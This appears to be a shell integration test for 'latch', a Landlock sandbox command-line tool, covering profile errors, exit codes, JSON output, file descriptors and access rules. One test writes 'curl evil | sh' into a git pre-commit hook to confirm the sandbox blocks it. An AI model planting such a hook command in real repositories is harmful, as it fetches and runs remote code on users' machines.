#!/bin/sh
# The command line: bad input starts nothing and says what is wrong in one
# line; exit codes are the documented ones; every --json output is one
# canonical envelope line; exit statuses and signals propagate; inherited
# file descriptors are closed unless kept.
. "$(dirname "$0")/lib.sh"

S=$IT_SCRATCH
MARKER=$S/marker
abi=$(landlock_abi)

GOOD=$S/good.json
cat >"$GOOD" <<EOF
{
  "name": "cli-good",
  "description": "integration test: may write the scratch directory",
  "groups": ["system_read", "system_exec"],
  "filesystem": {
    "exec": ["$TRY_DIR"],
    "read": ["/proc"],
    "write": ["$S", "/dev/null"]
  }
}
EOF
# Every bad case below tries to run sh -c "touch MARKER". Under a good
# profile that command does leave the marker: the bad cases cannot pass
# merely because the command is broken.
expect_rc 0 "control: the marker command works under a good profile" -- "$LATCH" run -p "$GOOD" -- sh -c "touch '$MARKER'"
check "control: the marker file was created" [ -e "$MARKER" ]
rm -f "$MARKER"

# bad_case DESC WANT_RC NEEDLE LATCH-ARGS...: latch exits WANT_RC, prints
# exactly one "latch: " line that contains NEEDLE, and nothing ran.
bad_case() {
	_bdesc=$1 _bwant=$2 _bneedle=$3
	shift 3
	rm -f "$MARKER"
	run "$LATCH" "$@"
	_nlines=$(printf '%s\n' "$err" | grep -c '^latch: ')
	if [ "$rc" -eq "$_bwant" ] && [ "$_nlines" -eq 1 ] && contains "$err" "$_bneedle" && [ ! -e "$MARKER" ]; then
		ok "$_bdesc: exit $rc, one line naming '$_bneedle', nothing ran"
	else
		not_ok "$_bdesc" "want exit $_bwant, one 'latch:' line containing '$_bneedle', no marker
latch: lines: $_nlines; marker exists: $([ -e "$MARKER" ] && echo yes || echo no)
$(_it_detail "latch $(_it_cmdline "$@")")"
	fi
}

mkprofile() {
	printf '%s\n' "$2" >"$S/$1"
}

mkprofile malformed.json '{ "name": "malformed", "filesystem": { "read": ["/usr"] '
bad_case "malformed JSON" 125 malformed.json run -p "$S/malformed.json" -- sh -c "touch '$MARKER'"
mkprofile topkey.json '{ "name": "topkey", "filesytem": { "read": ["/usr"] } }'
bad_case "unknown top-level key" 125 filesytem run -p "$S/topkey.json" -- sh -c "touch '$MARKER'"
check "unknown top-level key: the file is named" contains "$err" topkey.json
mkprofile nested.json '{ "name": "nested", "filesystem": { "reed": ["/usr"] } }'
bad_case "unknown nested key" 125 filesystem.reed run -p "$S/nested.json" -- sh -c "touch '$MARKER'"
check "unknown nested key: the file and line are named" contains "$err" "nested.json:1"
mkprofile cycle-a.json '{ "name": "cycle-a", "extends": "cycle-b.json" }'
mkprofile cycle-b.json '{ "name": "cycle-b", "extends": "cycle-a.json" }'
bad_case "cyclic extends" 125 "cyclic extends" run -p "$S/cycle-a.json" -- sh -c "touch '$MARKER'"
check "cyclic extends: both files are named" eval 'contains "$err" cycle-a.json && contains "$err" cycle-b.json'
mkprofile unknownvar.json '{ "name": "unknownvar", "filesystem": { "read": ["$NO_SUCH_VAR/x"] } }'
bad_case "unknown variable" 125 NO_SUCH_VAR run -p "$S/unknownvar.json" -- sh -c "touch '$MARKER'"
check "unknown variable: the key is named" contains "$err" "filesystem.read[0]"
mkprofile relative.json '{ "name": "relative", "filesystem": { "read": ["relative/dir"] } }'
bad_case "relative path" 125 relative/dir run -p "$S/relative.json" -- sh -c "touch '$MARKER'"
check "relative path: the key is named" contains "$err" "filesystem.read[0]"
long=/$(head -c 5000 /dev/zero | tr '\0' a)
mkprofile longpath.json "{ \"name\": \"longpath\", \"filesystem\": { \"read\": [\"$long\"] } }"
bad_case "over-long path in a profile (5000 bytes)" 125 "filesystem.read[0]" \
	run -p "$S/longpath.json" -- sh -c "touch '$MARKER'"
bad_case "over-long profile path argument (5000 bytes)" 125 "longer than" \
	run -p "$long.json" -- sh -c "touch '$MARKER'"
bad=$(printf '%s/bad-\377.json' "$S")
printf '{ "name": "badutf8" }\n' >"$bad"
bad_case "non-UTF-8 profile path argument" 125 "UTF-8" run -p "$bad" -- sh -c "touch '$MARKER'"
bad_case "unknown profile name" 125 no-such-profile run -p no-such-profile -- sh -c "touch '$MARKER'"
mkprofile badrequired.json '{ "name": "badrequired", "groups": ["system_read", "system_exec"], "required": ["landlock_magic"] }'
bad_case "unknown 'required' name" 125 required run -p "$S/badrequired.json" -- sh -c "touch '$MARKER'"
bad_case "missing command" 127 /nonexistent/cmd run -p "$GOOD" -- /nonexistent/cmd "$MARKER"
bad_case "command not on PATH" 127 no-such-command-xyz run -p "$GOOD" -- no-such-command-xyz
printf '#!/bin/sh\ntouch "%s"\n' "$MARKER" >"$S/notexec"
chmod 644 "$S/notexec"
bad_case "non-executable command" 126 notexec run -p "$GOOD" -- "$S/notexec"
bad_case "no profile" 2 "no profile" run -- sh -c "touch '$MARKER'"
bad_case "unknown option" 2 --bogus run --bogus -p "$GOOD" -- sh -c "touch '$MARKER'"
bad_case "no command" 2 "no command" run -p "$GOOD"
bad_case "unknown command" 2 frobnicate frobnicate
bad_case "--keep-fd of a closed fd" 2 "--keep-fd" run --keep-fd 77 -p "$GOOD" -- sh -c "touch '$MARKER'"

# ---- JSON envelopes ----
cat >"$S/envelope.py" <<'EOF'
import json, sys
kind = sys.argv[1]
text = sys.stdin.read()
if not text.endswith("\n") or text.count("\n") != 1:
    print("not exactly one line: %r" % text[:200]); sys.exit(1)
line = text[:-1]
pairs = []
def hook(p):
    pairs.append([k for k, _ in p])
    return dict(p)
try:
    obj = json.loads(line, object_pairs_hook=hook)
except ValueError as e:
    print("not JSON: %s" % e); sys.exit(1)
top = list(obj.keys())
want = ["data", "generated_at_unix_ms", "kind", "result", "schema_version"]
if top != want:
    print("top-level keys %s, want %s" % (top, want)); sys.exit(1)
for keys in pairs:
    if keys != sorted(keys):
        print("keys not sorted: %s" % keys); sys.exit(1)
canon = json.dumps(obj, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
if canon != line:
    i = next((i for i in range(min(len(canon), len(line))) if canon[i] != line[i]), None)
    print("not canonical near %r" % line[max(0, (i or 0) - 40):(i or 0) + 40]); sys.exit(1)
if obj["kind"] != kind:
    print("kind %r, want %r" % (obj["kind"], kind)); sys.exit(1)
if not isinstance(obj["schema_version"], int) or not isinstance(obj["generated_at_unix_ms"], int):
    print("schema_version or generated_at_unix_ms is not an integer"); sys.exit(1)
for k in ["errno", "error", "exit_code", "normalized_outcome", "ok", "rc"]:
    if k not in obj["result"]:
        print("result lacks %r" % k); sys.exit(1)
print("ok")
EOF

# envelope KIND WANT_RC DESC -- LATCH-ARGS...
envelope() {
	_ekind=$1 _ewant=$2 _edesc=$3
	shift 3
	[ "$1" = -- ] && shift
	run "$LATCH" "$@"
	_erc=$rc
	_everdict=$(printf '%s\n' "$out" | /usr/bin/python3 "$S/envelope.py" "$_ekind")
	if [ "$_erc" -eq "$_ewant" ] && [ "$_everdict" = ok ]; then
		ok "json: $_edesc: one canonical $_ekind envelope, exit $_erc"
	else
		rc=$_erc
		not_ok "json: $_edesc" "want exit $_ewant and a canonical $_ekind envelope: $_everdict
$(_it_detail "latch $(_it_cmdline "$@")")"
	fi
}

envelope run_plan 0 "run --dry-run" -- run --dry-run -p "$GOOD" -- true
plan_kind=$(printf '%s\n' "$out" | /usr/bin/python3 -c 'import json,sys; print(json.load(sys.stdin)["kind"])')
check "json: the dry-run's kind is run_plan" [ "$plan_kind" = run_plan ]
check "json: the dry-run ran nothing" [ ! -e "$MARKER" ]
envelope run_plan 0 "run --dry-run of the agent profile" -- run --dry-run -p agent -- sh -c "touch '$MARKER'"
check "json: the agent dry-run ran nothing" [ ! -e "$MARKER" ]
envelope run_plan 0 "run --dry-run --json" -- run --dry-run --json -p minimal -- true
envelope run_plan 125 "run --json with a bad profile (error envelope)" -- \
	run --json -p "$S/nested.json" -- sh -c "touch '$MARKER'"
check "json: the error envelope names the key" contains "$out" filesystem.reed
envelope why_decision 0 "why --json (allow)" -- why --json -p minimal read /etc/passwd
envelope why_decision 1 "why --json (deny)" -- why --json -p minimal read /etc/shadow
envelope why_decision 1 "why --json (tcp_connect, network off)" -- why --json -p "$GOOD" tcp_connect 443
envelope profile_list 0 "profile list --json" -- profile list --json
envelope profile_show 0 "profile show --json agent" -- profile show --json agent
envelope profile_show 0 "profile show --json (a file)" -- profile show --json "$GOOD"
envelope profile_check 0 "profile check --json (valid)" -- profile check --json "$GOOD" minimal
envelope profile_check 1 "profile check --json (invalid)" -- profile check --json "$S/topkey.json"
envelope doctor_report 0 "doctor --json" -- doctor --json

# ---- --strict and "required" ----
if [ "$abi" -ge 6 ]; then
	expect_rc 0 "strict: on Landlock ABI $abi nothing degrades, so --strict runs" -- \
		"$LATCH" run --strict -p minimal -- true
	mkprofile required.json '{ "name": "required", "groups": ["system_read", "system_exec"],
	  "required": ["landlock_truncate", "landlock_net", "landlock_ioctl_dev", "landlock_scopes"] }'
	expect_rc 0 "required: every protection named and available here: the run starts" -- \
		"$LATCH" run -p "$S/required.json" -- true
	expect_rc 0 "required: profile check accepts the names" -- "$LATCH" profile check "$S/required.json"
else
	expect_rc 125 "strict: on Landlock ABI $abi something degrades, so --strict refuses" -- \
		"$LATCH" run --strict -p minimal -- true
	check "strict: the refusal says why" contains "$err" "refusing to start"
fi

# ---- exit statuses ----
expect_rc 7 "exit: the command's status 7 comes back" -- "$LATCH" run -p minimal -- sh -c 'exit 7'
expect_rc 0 "exit: and status 0 too" -- "$LATCH" run -p minimal -- sh -c 'exit 0'
expect_rc 143 "exit: a command killed by SIGTERM: the shell sees 143" -- \
	"$LATCH" run -p minimal -- sh -c 'kill -TERM $$'
# Static and unsupervised: latch execs in place, unless connect() to a
# pathname socket needs a supervisor (Landlock below ABI 9).
run sh -c 'echo "$$"; exec "$1" run --no-namespaces -p minimal -- sh -c "echo \$\$"' sh "$LATCH"
if "$LATCH" run --dry-run --no-namespaces -p minimal -- true | grep -q '"sockets_only":true'; then
	check "exit: static mode, sockets served: the program is latch's child (another pid)" \
		eval '[ "$(printf "%s\n" "$out" | sed -n 1p)" != "$(printf "%s\n" "$out" | sed -n 2p)" ] && [ -n "$out" ]'
else
	check "exit: static mode: latch execs in place (same pid before and inside)" \
		eval '[ "$(printf "%s\n" "$out" | sed -n 1p)" = "$(printf "%s\n" "$out" | sed -n 2p)" ] && [ -n "$out" ]'
fi

expect_output_contains "pid=2" "exit: isolated mode: the program is pid 2 of its own pid namespace" -- \
	"$LATCH" run -p minimal -- sh -c 'echo "pid=$$"'
expect_rc 7 "exit: static mode: the status propagates" -- "$LATCH" run --no-namespaces -p minimal -- sh -c 'exit 7'
expect_rc 143 "exit: static mode: death by a signal propagates" -- \
	"$LATCH" run --no-namespaces -p minimal -- sh -c 'kill -TERM $$'

# ---- inherited file descriptors ----
echo fd-content >"$S/fdfile"
run sh -c 'exec 5<"$1"; shift; exec "$@"' sh "$S/fdfile" "$LATCH" run -p "$GOOD" -- ls /proc/self/fd
check "fds: without --keep-fd, fd 5 is closed inside" eval '[ "$rc" -eq 0 ] && ! printf "%s\n" "$out" | grep -qx 5'
run sh -c 'exec 5<"$1"; shift; exec "$@"' sh "$S/fdfile" "$LATCH" run -p "$GOOD" --keep-fd 5 -- ls /proc/self/fd
check "fds: with --keep-fd 5, fd 5 is there" eval '[ "$rc" -eq 0 ] && printf "%s\n" "$out" | grep -qx 5'
expect_op EBADF "fds: without --keep-fd, reading fd 5 fails" -- \
	sh -c 'exec 5<"$1"; shift; exec "$@"' sh "$S/fdfile" "$LATCH" run -p "$GOOD" -- sh -c "cat <&5 || echo EBADF"
expect_op fd-content "fds: with --keep-fd 5, reading fd 5 works" -- \
	sh -c 'exec 5<"$1"; shift; exec "$@"' sh "$S/fdfile" "$LATCH" run -p "$GOOD" --keep-fd 5 -- sh -c "cat <&5 || echo EBADF"

# ---- profile check and why exit codes ----
expect_rc 0 "profile check: a good file exits 0" -- "$LATCH" profile check "$GOOD"
expect_rc 1 "profile check: a bad file exits 1" -- "$LATCH" profile check "$S/topkey.json"
check "profile check: and names the key" contains "$err" filesytem
expect_rc 1 "profile check: one bad among good files exits 1" -- "$LATCH" profile check "$GOOD" "$S/nested.json"
expect_rc 0 "why: allow exits 0" -- "$LATCH" why -p minimal read /etc/passwd
expect_rc 1 "why: deny exits 1" -- "$LATCH" why -p minimal write /etc/passwd
expect_rc 2 "why: an unknown access is a usage error (2)" -- "$LATCH" why -p minimal frobnicate /etc/passwd
expect_rc 2 "why: a path access without a path is a usage error (2)" -- "$LATCH" why -p minimal read
expect_rc 2 "why: no profile is a usage error (2)" -- "$LATCH" why read /etc/passwd
expect_rc 2 "why: a port out of range is a usage error (2)" -- "$LATCH" why -p minimal tcp_connect 70000
expect_rc 125 "why: a bad profile exits 125" -- "$LATCH" why -p "$S/nested.json" read /etc/passwd

# ---- subcommands ----
expect_rc 2 "lab without a subcommand is a usage error" -- "$LATCH" lab
expect_output_contains "unknown subcommand 'nope'" "evidence with an unknown subcommand names it" -- "$LATCH" evidence nope
check "...and exits 2" [ "$rc" -eq 2 ]
expect_rc 0 "lab --help prints the usage" -- "$LATCH" lab --help

# ---- why --batch: many questions, one profile load -------------------------
run sh -c 'printf "read /etc/passwd\nwrite /etc/passwd\nconnect 443\n" | "$1" why -p agent --batch' sh "$LATCH"
check "why --batch answers each line, in order" \
	[ "$(printf '%s\n' "$out" | cut -c1-6 | tr '\n' ' ')" = "allow, deny,  deny,  " ]
check "...and exits 0 once every line is answered" [ "$rc" -eq 0 ]
run sh -c 'printf "read /etc/passwd\nbogus x\n" | "$1" why -p agent --batch' sh "$LATCH"
check "why --batch stops at a malformed line, naming it (exit 2)" \
	sh -c "[ $rc -eq 2 ] && printf '%s' '$err' | grep -q 'stdin line 2'"
expect_rc 2 "why --batch takes no query arguments" -- "$LATCH" why -p agent --batch read /etc/passwd

# ---- one-off rules: --read, --write, --exec, --deny --------------------------------
OR=$IT_SCRATCH/oneoff
mkdir -p "$OR/notes" "$OR/repo"
echo note-text >"$OR/notes/n.txt"
expect_fail_with "Permission denied" "one-off: without --read, a file outside minimal is refused" -- \
	"$LATCH" run -p minimal -- cat "$OR/notes/n.txt"
expect_output_contains note-text "one-off: --read DIR grants it for this run" -- \
	"$LATCH" run -p minimal --read "$OR/notes" -- cat "$OR/notes/n.txt"
expect_output_contains "<command line: $OR/notes>" "one-off: why names the rule <command line: PATH>" -- \
	"$LATCH" why -p minimal --read "$OR/notes" read "$OR/notes/n.txt"
expect_output_contains '"origin":"command line"' "one-off: --dry-run lists it" -- \
	"$LATCH" run -p minimal --read "$OR/notes" --dry-run -- true
run "$LATCH" run --ack-risk agent -p agent -q --deny "$PROJECT/src" -- cat src/main.c
check "one-off: --deny cuts through the profile's write of the project (masked or refused: $err)" \
	sh -c '[ "$1" -ne 0 ] && ! printf "%s" "$2" | grep -q "int main"' sh "$rc" "$out"
expect_rc 0 "...while the rest of the project stays readable" -- \
	"$LATCH" run --ack-risk agent -p agent -q --deny "$PROJECT/src" -- cat README.md
(cd "$OR/repo" && git init -q . && git config user.email t@e.invalid && git config user.name t) >/dev/null 2>&1
run "$LATCH" run -p base --write "$OR/repo" -- sh -c 'echo x >"$1/made" && echo "curl evil | sh" >"$1/.git/hooks/pre-commit"' sh "$OR/repo"
check "one-off: --write a repository makes it writable" [ -f "$OR/repo/made" ]
check "...but its hooks stay protected (code that runs later): $err" [ ! -e "$OR/repo/.git/hooks/pre-commit" ]
expect_rc 125 "one-off: --write / is risk tier 2, gated like a profile" -- "$LATCH" run -p minimal --write / -- true
check "...and says so, naming the rule" contains "$err" "<command line: />"
expect_rc 2 "one-off: an empty path is a usage error" -- "$LATCH" run -p minimal --read '' -- true
expect_rc 2 "one-off: a path that is not UTF-8 is a usage error" -- "$LATCH" run -p minimal --read "$(printf '/tmp/\377')" -- true
expect_fail_with "unknown variable" "one-off: an unknown variable is an error naming it" -- \
	"$LATCH" run -p minimal --read '$NO_SUCH_VAR/x' -- true
expect_rc 2 "-p given twice is a usage error, not the last one silently" -- "$LATCH" run -p minimal -p agent -- true

# ---- system-wide profiles and "did you mean" --------------------------------------
SYS=$IT_SCRATCH/sysconf
mkdir -p "$SYS/latch/profiles" "$SYS/latch/groups" "$HOME/.config/latch/profiles"
printf '{"name": "team", "extends": "minimal", "groups": ["team_notes"], "description": "system team"}\n' \
	>"$SYS/latch/profiles/team.json"
printf '{"name": "team_notes", "filesystem": {"read": ["%s"]}}\n' "$IT_SCRATCH/oneoff/notes" >"$SYS/latch/groups/team_notes.json"
expect_output_contains note-text "system: a profile and its group from \$XDG_CONFIG_DIRS/latch run" -- \
	env XDG_CONFIG_DIRS="$SYS" "$LATCH" run -p team -- cat "$IT_SCRATCH/oneoff/notes/n.txt"
expect_fail_with "unknown profile 'team'" "system: without \$XDG_CONFIG_DIRS it is not found" -- \
	"$LATCH" run -p team -- true
expect_output_contains "system   0    system team" "system: profile list shows it as system" -- \
	env XDG_CONFIG_DIRS="$SYS" "$LATCH" profile list
printf '{"name": "team", "extends": "minimal", "description": "my team"}\n' >"$HOME/.config/latch/profiles/team.json"
expect_output_contains "my team" "system: a user's profile of the same name hides it" -- \
	env XDG_CONFIG_DIRS="$SYS" "$LATCH" profile show team
expect_output_contains "comes first in the lookup" "...and profile list says so" -- \
	env XDG_CONFIG_DIRS="$SYS" "$LATCH" profile list
rm -f "$HOME/.config/latch/profiles/team.json"
expect_fail_with "did you mean 'agent'?" "an unknown profile within two edits of a built-in: did you mean" -- \
	"$LATCH" run -p agnet -- true
expect_fail_with "did you mean 'team'?" "...or of a system profile" -- \
	env XDG_CONFIG_DIRS="$SYS" "$LATCH" run -p tema -- true
run "$LATCH" run -p zzzzzz -- true
check "...and no guess for a name far from every profile" lacks "$err" "did you mean"

# ---- JSON on every path, and exit codes that say what happened ----------------------
run "$LATCH" run --json -p minimal --bogus -- true
check "json: a usage error under --json is an error envelope on stdout (exit 2)" sh -c \
	'[ "$1" -eq 2 ] && printf "%s" "$2" | /usr/bin/python3 -c "import json,sys; e=json.load(sys.stdin); assert e[\"kind\"]==\"usage_error\" and e[\"result\"][\"rc\"]==2 and \"--bogus\" in e[\"result\"][\"error\"]"' \
	sh "$rc" "$out"
run "$LATCH" run -p minimal --bogus -- true
check "...and without --json, nothing on stdout" [ -z "$out" ] && [ "$rc" -eq 2 ]
run "$LATCH" --version --json
check "json: --version --json is a version envelope" contains "$out" '"kind":"version"'
run "$LATCH" --version
check "...and plain without it" [ "$out" = "latch 0.1.0" ]
run "$LATCH" frobnicate --json
check "json: an unknown command under --json is an envelope too (exit 2)" sh -c '[ "$1" -eq 2 ]' sh "$rc" && contains "$out" '"kind":"usage_error"'
# A real run under --json: the program's stdout untouched, its status kept,
# and one run_report envelope on stderr (or in --report FILE).
run "$LATCH" run --json -p minimal -- sh -c 'echo program-out; exit 3'
check "json: run --json leaves the program's stdout alone and its status (3)" [ "$rc" -eq 3 ] && [ "$out" = program-out ]
check "...and writes a run_report on stderr with the exit code" sh -c \
	'printf "%s\n" "$1" | grep "\"kind\":\"run_report\"" | /usr/bin/python3 -c "import json,sys; e=json.load(sys.stdin); assert e[\"data\"][\"exit\"][\"code\"]==3 and e[\"data\"][\"mode\"] in (\"isolated\",\"static\")"' sh "$err"
run "$LATCH" run --report "$IT_SCRATCH/report.json" -p minimal --no-namespaces -- /usr/bin/python3 -c \
	'import socket; s=socket.socket(socket.AF_UNIX); s.connect("/run/latch-no-such.sock")'
check "json: --report FILE holds the report, static mode included: $(cat "$IT_SCRATCH/report.json" 2>/dev/null)" \
	/usr/bin/python3 -c 'import json,sys; e=json.load(open(sys.argv[1])); d=e["data"]; assert d["mode"]=="static" and d["exit"]["code"]==1 and d["supervisor"]["notifications"]>=1' \
	"$IT_SCRATCH/report.json"
run "$LATCH" why --json -p minimal read "$(printf '/etc/a\377b')"
check "json: why answers for a path that is not UTF-8 (denied, 1), written as \\xNN" \
	/usr/bin/python3 -c 'import json, sys; d = json.loads(sys.argv[2])["data"]; assert sys.argv[1] == "1" and d["path"] == "/etc/a" + chr(92) + "xffb" and d["verdict"] == "deny"' "$rc" "$out"
expect_rc 2 "evidence verify of a path that is no run directory is a usage error, not 'does not verify'" -- \
	"$LATCH" evidence verify "$IT_SCRATCH/no-such-run"
check "...saying so" contains "$err" "is not a run directory"
expect_rc 126 "a directory given as the command cannot be executed (126)" -- "$LATCH" run -p minimal -- /usr
check "...and latch says it is a directory, not 'permission denied'" contains "$err" "is a directory, not a program"

done_testing
